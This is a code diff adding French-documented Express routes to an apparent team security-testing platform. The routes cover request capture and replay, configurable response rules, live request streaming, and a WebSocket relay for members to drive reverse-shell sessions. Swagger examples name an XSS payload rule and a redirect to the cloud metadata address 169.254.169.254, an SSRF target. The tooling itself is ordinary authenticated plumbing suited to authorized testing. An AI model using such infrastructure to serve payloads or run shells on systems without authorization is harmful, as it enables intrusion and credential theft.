+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: path
+ *         name: requestId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la requête capturée
+ *     responses:
+ *       200:
+ *         description: Rejeux récupérés avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint ou requête non trouvé
+ */
+router.get(
+  "/:endpointId/requests/:requestId/replays",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId, requestId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const replays = await getRequestReplays(
+        requestId,
+        endpointId,
+        teamId,
+        userId
+      );
+
+      return sendSuccess(res, "Rejeux récupérés avec succès", { replays });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération des rejeux"
+      );
+      if (error instanceof Error) {
+        if (
+          error.message === "Endpoint non trouvé" ||
+          error.message === "Requête non trouvée"
+        ) {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération des rejeux",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/rules:
+ *   get:
+ *     summary: Règles de réponse d'un endpoint
+ *     description: Récupère la version actuellement servie des règles de réponse du request catcher
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Règles récupérées avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/rules",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const ruleSet = await getEndpointRules(endpointId, teamId, userId);
+
+      return sendSuccess(res, "Règles récupérées avec succès", { ruleSet });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération des règles"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération des règles",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/rules:
+ *   put:
+ *     summary: Modifier les règles de réponse d'un endpoint
+ *     description: |
+ *       Remplace les règles de réponse du request catcher en créant une nouvelle version.
+ *       La première règle dont la méthode et le chemin correspondent à la requête reçue détermine
+ *       la réponse ; sans correspondance, la réponse par défaut de l'endpoint est servie.
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     requestBody:
+ *       required: true
+ *       content:
+ *         application/json:
+ *           schema:
+ *             type: object
+ *             required:
+ *               - rules
+ *             properties:
+ *               rules:
+ *                 type: array
+ *                 items:
+ *                     type: object
+ *                     properties:
+ *                       name:
+ *                         type: string
+ *                         example: Payload XSS
+ *                       method:
+ *                         type: string
+ *                         description: Méthode HTTP attendue (toutes si absente ou *)
+ *                         example: GET
+ *                       path:
+ *                         type: string
+ *                         description: Chemin relatif au token, `*` accepte n'importe quelle suite de caractères
+ *                         example: /xss.js
+ *                       status:
+ *                         type: integer
+ *                         example: 200
+ *                       headers:
+ *                         type: object
+ *                         description: "En-têtes de la réponse. Set-Cookie, Content-Security-Policy et X-Content-Type-Options sont refusés : la réponse est toujours servie avec Content-Security-Policy: sandbox et X-Content-Type-Options: nosniff"
+ *                         additionalProperties:
+ *                           type: string
+ *                         example: { "Content-Type": "application/javascript" }
+ *                       body:
+ *                         type: string
+ *                       redirect:
+ *                         type: string
+ *                         description: URL de redirection (statut 302 par défaut)
+ *                         example: http://169.254.169.254/latest/meta-data/
+ *     responses:
+ *       200:
+ *         description: Règles modifiées avec succès
+ *       400:
+ *         description: Données d'entrée invalides
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ *       409:
+ *         description: Règles modifiées simultanément par un autre membre
+ */
+router.put(
+  "/:endpointId/rules",
+  authenticateJWT,
+  validate(updateEndpointRulesSchema),
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const ruleSet = await updateEndpointRules(
+        endpointId,
+        teamId,
+        userId,
+        req.body.rules
+      );
+
+      return sendSuccess(res, "Règles modifiées avec succès", { ruleSet });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la modification des règles"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+        if (
+          error.message ===
+          "Les règles ont été modifiées simultanément, veuillez réessayer"
+        ) {
+          return sendError(res, error.message, 409, "RULES_CONFLICT");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la modification des règles",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/rules/versions:
+ *   get:
+ *     summary: Historique des règles de réponse d'un endpoint
+ *     description: Récupère toutes les versions des règles de réponse, de la plus récente à la plus ancienne, avec leur auteur
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Historique des règles récupéré avec succès
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/rules/versions",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const versions = await getEndpointRuleHistory(endpointId, teamId, userId);
+
+      return sendSuccess(res, "Historique des règles récupéré avec succès", {
+        versions,
+      });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération de l'historique des règles"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération de l'historique des règles",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/stream:
+ *   get:
+ *     summary: Flux temps réel des requêtes capturées
+ *     description: |
+ *       Ouvre un flux Server-Sent Events qui pousse chaque requête capturée par l'endpoint dès sa réception
+ *       (événement `request`). L'authentification se fait par le cookie JWT, utilisable directement avec
+ *       `new EventSource(url, { withCredentials: true })`. L'historique s'obtient via /requests.
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Flux d'événements ouvert
+ *         content:
+ *           text/event-stream:
+ *             schema:
+ *               type: string
+ *               example: "event: request\ndata: {\"id\":\"...\",\"method\":\"GET\",\"path\":\"/\"}\n\n"
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/stream",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      await getEndpointById(endpointId, teamId, userId);
+
+      res.writeHead(200, {
+        "Content-Type": "text/event-stream",
+        "Cache-Control": "no-cache",
+        Connection: "keep-alive",
+        "X-Accel-Buffering": "no",
+      });
+      res.write(": connecté\n\n");
+
+      const unsubscribe = subscribeToEndpoint(endpointId, (request) => {
+        res.write(`event: request\ndata: ${JSON.stringify(request)}\n\n`);
+      });
+
+      // Garde la connexion ouverte derrière les proxys
+      const heartbeat = setInterval(() => {
+        res.write(": ping\n\n");
+      }, STREAM_HEARTBEAT_INTERVAL);
+
+      req.on("close", () => {
+        clearInterval(heartbeat);
+        unsubscribe();
+      });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de l'ouverture du flux de requêtes"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de l'ouverture du flux de requêtes",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/sessions:
+ *   get:
+ *     summary: Sessions d'un reverse shell
+ *     description: Récupère les connexions reçues par le listener d'un reverse shell, de la plus récente à la plus ancienne
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *     responses:
+ *       200:
+ *         description: Sessions récupérées avec succès
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         sessions:
+ *                           type: array
+ *                           items:
+ *                             type: object
+ *                             properties:
+ *                               id:
+ *                                 type: string
+ *                                 format: uuid
+ *                               remoteAddress:
+ *                                 type: string
+ *                               startedAt:
+ *                                 type: string
+ *                                 format: date-time
+ *                               endedAt:
+ *                                 type: string
+ *                                 format: date-time
+ *                                 nullable: true
+ *                               active:
+ *                                 type: boolean
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint non trouvé
+ */
+router.get(
+  "/:endpointId/sessions",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const sessions = await getShellSessions(endpointId, teamId, userId);
+
+      return sendSuccess(res, "Sessions récupérées avec succès", {
+        sessions,
+      });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération des sessions"
+      );
+      if (error instanceof Error) {
+        if (error.message === "Endpoint non trouvé") {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération des sessions",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * @swagger
+ * /api/v1/teams/{teamId}/endpoints/{endpointId}/sessions/{sessionId}:
+ *   get:
+ *     summary: Transcript d'une session de reverse shell
+ *     description: Récupère l'intégralité des échanges d'une session (sorties du shell et saisies des membres), dans l'ordre
+ *     tags: [Endpoints]
+ *     security:
+ *       - bearerAuth: []
+ *     parameters:
+ *       - in: path
+ *         name: teamId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'équipe
+ *       - in: path
+ *         name: endpointId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de l'endpoint
+ *       - in: path
+ *         name: sessionId
+ *         required: true
+ *         schema:
+ *           type: string
+ *           format: uuid
+ *         description: ID de la session
+ *     responses:
+ *       200:
+ *         description: Transcript récupéré avec succès
+ *         content:
+ *           application/json:
+ *             schema:
+ *               allOf:
+ *                 - $ref: '#/components/schemas/SuccessResponse'
+ *                 - type: object
+ *                   properties:
+ *                     data:
+ *                       type: object
+ *                       properties:
+ *                         session:
+ *                           type: object
+ *                           properties:
+ *                             id:
+ *                               type: string
+ *                               format: uuid
+ *                             chunks:
+ *                               type: array
+ *                               items:
+ *                                 type: object
+ *                                 properties:
+ *                                   direction:
+ *                                     type: string
+ *                                     enum: [INPUT, OUTPUT]
+ *                                   data:
+ *                                     type: string
+ *                                   user:
+ *                                     type: object
+ *                                     nullable: true
+ *                                     properties:
+ *                                       id:
+ *                                         type: string
+ *                                         format: uuid
+ *                                       username:
+ *                                         type: string
+ *                                   createdAt:
+ *                                     type: string
+ *                                     format: date-time
+ *       401:
+ *         description: Non authentifié
+ *       403:
+ *         description: Non autorisé à accéder aux endpoints de cette équipe
+ *       404:
+ *         description: Endpoint ou session non trouvé
+ */
+router.get(
+  "/:endpointId/sessions/:sessionId",
+  authenticateJWT,
+  async (req: Request, res: Response) => {
+    try {
+      const { teamId, endpointId, sessionId } = req.params;
+      const userId = req.user?.userId;
+
+      if (!userId) {
+        return sendError(
+          res,
+          "Utilisateur non authentifié",
+          401,
+          "NOT_AUTHENTICATED"
+        );
+      }
+
+      const session = await getShellTranscript(
+        sessionId,
+        endpointId,
+        teamId,
+        userId
+      );
+
+      return sendSuccess(res, "Transcript récupéré avec succès", { session });
+    } catch (error) {
+      logError(
+        error instanceof Error ? error : new Error(String(error)),
+        "Erreur lors de la récupération du transcript"
+      );
+      if (error instanceof Error) {
+        if (
+          error.message === "Endpoint non trouvé" ||
+          error.message === "Session non trouvée"
+        ) {
+          return sendError(res, error.message, 404, "RESOURCE_NOT_FOUND");
+        }
+        if (
+          error.message ===
+          "Non autorisé à accéder aux endpoints de cette équipe"
+        ) {
+          return sendError(res, error.message, 403, "FORBIDDEN_ACCESS");
+        }
+      }
+      return sendError(
+        res,
+        "Erreur lors de la récupération du transcript",
+        500,
+        "SERVER_ERROR"
+      );
+    }
+  }
+);
+
+/**
+ * WebSocket /api/v1/teams/{teamId}/endpoints/{endpointId}/shell
+ *
+ * Relie les membres de l'équipe au reverse shell : chaque membre connecté reçoit
+ * les événements de session et la sortie du shell, et envoie ses saisies sous la
+ * forme { "type": "input", "data": "id\n", "sessionId"?: "..." }.
+ */
+registerWebSocketRoute(
+  "/api/v1/teams/:teamId/endpoints/:endpointId/shell",
+  async (socket, { params, user }) => {
+    try {
+      await attachShellViewer(
+        socket,
+        params.endpointId,
+        params.teamId,
+        user.userId
+      );
+    } catch (error) {
+      socket.close(
+        1008,
+        error instanceof Error ? error.message : "Accès refusé"
+      );
+    }
+  }
+);
+
+export default router;